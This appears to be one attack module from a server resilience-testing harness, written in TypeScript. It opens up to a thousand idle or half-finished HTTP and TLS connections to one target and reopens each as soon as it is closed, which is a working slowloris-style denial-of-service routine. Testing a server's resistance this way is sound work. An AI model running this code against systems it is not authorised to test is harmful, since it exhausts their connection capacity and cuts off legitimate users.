// One address that opens connections to the HTTP and HTTPS listeners, says nothing on them, and opens them anew when they
// are closed.

import { connect, type Socket } from 'node:net';
import type { Attack, Counts } from '../attack.ts';
import { pause } from '../http2-attackers.ts';

/** Connections at once, and how many are opened each second. */
const MAX = 1000;
const PER_SECOND = 200;

export const attack: Attack = {
  name: 'A4 idle visitors of one address',
  async run(target, signal) {
    const counts: Counts = { opened: 0, closed: 0 };
    const sockets = new Set<Socket>();
    for (let at = 0; !signal.aborted; at++) {
      if (sockets.size < MAX) {
        const [host, port] = (at % 2 ? target.http : target.https).split(':');
        const socket = connect({ host, port: Number(port) });
        counts.opened = (counts.opened ?? 0) + 1;
        sockets.add(socket);
        // A third each: nothing, the beginning of a request or of a ClientHello, nothing but an end.
        if (at % 3 === 1) socket.write(at % 2 ? 'GET / HT' : Buffer.from([22, 3, 1, 2, 0]));
        socket.on('error', () => {}).resume();
        socket.on('close', () => {
          counts.closed = (counts.closed ?? 0) + 1;
          sockets.delete(socket);
        });
      }
      await pause(1000 / PER_SECOND, signal);
    }
    for (const socket of sockets) socket.destroy();
    return counts;
  },
};
